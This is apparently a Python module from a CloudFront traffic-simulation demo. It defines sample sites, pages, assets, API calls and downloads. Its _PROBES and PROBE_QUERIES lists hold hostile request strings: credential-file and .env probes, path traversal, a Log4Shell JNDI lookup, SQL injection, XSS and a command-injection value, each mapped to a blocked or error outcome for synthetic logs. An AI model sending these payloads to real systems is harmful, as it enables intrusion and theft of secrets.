"""What the demo's sites serve: pages, their parts, calls, videos and downloads."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING, NamedTuple

from cloudfront_ecs.demo.request import Outcome, Resource

if TYPE_CHECKING:
    from cloudfront_ecs.demo.request import Dice

WWW = "www.example.com"
SHOP = "shop.example.com"
API = "api.example.net"
VIDEO = "video.example.org"
DISTRIBUTION_ID = "EDFDVBD6EXAMPLE"
DISTRIBUTION_DOMAIN = "d111111abcdef8.cloudfront.net"
ORIGINS = {
    WWW: "www-origin.example.net",
    SHOP: "shop-origin.example.net",
    API: "api-origin.example.net",
    VIDEO: "packager.example.net",
}
BACKUP_ORIGIN = "standby-origin.example.net"
SEARCH_ENGINE = "https://search.example.org/"

_HTML = "text/html; charset=utf-8"
_PLAIN_HTML = "text/html"
_JSON = "application/json"

# Pages move, functions answer, and some doors are shut: always the same end.
_MOVED = Outcome(302, "FunctionGeneratedResponse", "FunctionGeneratedResponse", size=0)
_GONE = Outcome(404, "Error", "Error", origin=True, wait=60.0, size=1245)
_DENIED = Outcome(403, "Error", "Error", origin=True, wait=40.0, size=243)
_BLOCKED = Outcome(403, "Error", "InvalidRequestBlocked", size=919)
_BAD_HEADER = Outcome(400, "Error", "InvalidRequestHeader", size=915)
_BAD_METHOD = Outcome(403, "Error", "InvalidRequestMethod", size=915)

_TOPICS = (
    "spring-collection",
    "summer-sale",
    "autumn-walks",
    "winter-jackets",
    "rain-gear",
    "trail-running",
    "city-bikes",
    "camping-stoves",
    "sleeping-bags",
    "wool-socks",
    "head-torches",
    "water-filters",
    "climbing-ropes",
    "day-packs",
    "travel-mugs",
    "caf%C3%A9-tables",
    "gr%C3%B6%C3%9Fentabelle",
    "how-we-repair-tents",
    "the-best-hut-tours",
    "packing-for-a-weekend",
    "letters-from-the-north",
    "washing-down-jackets",
    "boots-that-last",
    "sizes-and-fit",
    "maps-and-compass",
    "winter%20camping",
)
_SECTIONS = ("/blog", "/news", "/en/guides", "/de/ratgeber", "/fr/guides", "/about")
_PICTURES = (
    ("webp", "image/webp"),
    ("jpg", "image/jpeg"),
    ("avif", "image/avif"),
    ("png", "image/png"),
)


class Page(NamedTuple):
    """A page and what a browser loads with it.

    Attributes:
        resource: The page.
        basics: Styles, scripts and fonts, which browsers keep.
        pictures: Pictures, which belong to this page.
    """

    resource: Resource
    basics: tuple[Resource, ...]
    pictures: tuple[Resource, ...]


class Sites:
    """Everything that can be asked for, the most popular first."""

    def __init__(self, dice: Dice) -> None:
        """Build the sites."""
        self._dice = dice
        self.www = self._pages(
            WWW, "/", product(_SECTIONS, [f"/{topic}" for topic in _TOPICS]), cached=0.62
        )
        numbers = (f"/{topic}-{dice.below(90_000) + 10_000}" for topic in _TOPICS * 18)
        self.shop = self._pages(SHOP, "/cart", product(("/p",), numbers), cached=0.3)
        self.calls = [
            Resource(API, path, _JSON, size, cached, "/v1/*") for path, size, cached in _CALLS
        ]
        self.calls += [
            Resource(API, f"/v1/products/{dice.below(90_000) + 10_000}", _JSON, 2300, 0.6, "/v1/*")
            for _ in range(500)
        ]
        self.downloads = [
            Resource(WWW, f"/downloads/{name}", kind, size, 0.93, "/downloads/*")
            for name, kind, size in _DOWNLOADS
        ]
        self.health = Resource(API, "/health", "text/plain", 2, 0.0, "/health")
        self.robots = Resource(WWW, "/robots.txt", "text/plain", 310, 0.9)
        self.moved = [
            Resource(WWW, f"/old{page.resource.path}", _PLAIN_HTML, 0, 0.0, "/old/*", _MOVED)
            for page in self.www[:40]
        ]
        self.gone = [
            Resource(WWW, path, _PLAIN_HTML, 1245, 0.0, "*", _GONE) for path in _GONE_PATHS
        ]
        self.probes = [
            Resource(host, path, _PLAIN_HTML, 919, 0.0, "*", outcome)
            for path, outcome in _PROBES
            for host in (WWW, SHOP)
        ]

    def _pages(
        self, host: str, first: str, paths: product[tuple[str, str]], cached: float
    ) -> list[Page]:
        """Return the pages of *host*, each with its basics and pictures."""
        dice = self._dice
        basics = self._basics(host)
        pictures = [self._picture(host, number) for number in range(700)]
        addresses = ["".join(parts) for parts in paths]
        dice.shuffle(addresses)
        return [
            Page(
                Resource(host, path, _HTML, int(dice.lognormvariate(9.6, 0.5)), cached),
                basics,
                tuple(dice.popular(pictures) for _ in range(2 + dice.below(6))),
            )
            for path in ("/", first, *addresses)
        ]

    def _basics(self, host: str) -> tuple[Resource, ...]:
        build = f"{self._dice.getrandbits(32):08x}"
        return tuple(
            Resource(host, f"/static/{build}/{name}", kind, size, 0.97, "/static/*")
            for name, kind, size in (
                ("main.css", "text/css", 41_200),
                ("runtime.js", "application/javascript", 6_100),
                ("app~shared.js", "application/javascript", 182_000),
                ("vendors.js", "application/javascript", 310_000),
                ("inter-var.woff2", "font/woff2", 98_600),
                ("icons.svg", "image/svg+xml", 12_400),
            )
        )

    def _picture(self, host: str, number: int) -> Resource:
        ending, kind = self._dice.popular(_PICTURES)
        name = f"/images/{self._dice.any(_TOPICS)}-{number:04d}"
        side = self._dice.any(("", "@2x", "_640x480", "%20(1)"))
        size = int(self._dice.lognormvariate(10.3, 0.9)) + 400
        return Resource(host, f"{name}{side}.{ending}", kind, size, 0.88, "/images/*")


_CALLS = (
    ("/v1/search", 5200, 0.25),
    ("/v1/recommendations", 3900, 0.2),
    ("/v1/prices", 1800, 0.5),
    ("/v1/stock", 420, 0.4),
    ("/v1/session", 310, 0.0),
    ("/v1/cart", 1100, 0.0),
    ("/v1/config", 2600, 0.95),
)
_DOWNLOADS = (
    ("example-app-4.2.1.dmg", "application/x-apple-diskimage", 84_123_904),
    ("example-app-4.2.1.exe", "application/vnd.microsoft.portable-executable", 61_771_432),
    ("catalogue%202026.pdf", "application/pdf", 23_090_112),
    ("gpx-tracks.zip", "application/zip", 9_400_320),
)
_GONE_PATHS = (
    "/favicon-old.ico",
    "/feed.xml",
    "/blog/2019/index.html",
    "/img/logo.gif",
    "/ads.txt",
)
_PROBES = (
    ("/.env", _BLOCKED),
    ("/.git/config", _BLOCKED),
    ("/wp-login.php", _GONE),
    ("/wp-admin/setup-config.php", _GONE),
    ("/xmlrpc.php", _BAD_METHOD),
    ("/phpmyadmin/index.php", _GONE),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", _BLOCKED),
    ("/cgi-bin/luci/;stok=/locale", _BLOCKED),
    ("/actuator/env", _DENIED),
    ("/server-status", _DENIED),
    ("/..%2f..%2f..%2fetc/passwd", _BLOCKED),
    ("/%24%7Bjndi:ldap://192.0.2.66/a%7D", _BLOCKED),
    ("/admin/<script>alert(1)</script>", _BLOCKED),
    ("/index.php/module/action/param1/${@die(md5(HelloThinkPHP))}", _BLOCKED),
    ("/backup.sql.gz", _DENIED),
    ("/übersicht", _BAD_HEADER),
    ("/.aws/credentials", _BLOCKED),
    ("/solr/admin/info/system", _GONE),
)
PROBE_QUERIES = (
    "",
    "",
    "id=1' OR '1'='1",
    "q=%27%20UNION%20SELECT%20NULL--",
    "page=../../../../etc/passwd%00",
    'x="><svg/onload=alert(1)>',
    "cmd=cat%20/etc/hosts|id",
    "a=[1]&b={2}&c=^3~`",
)
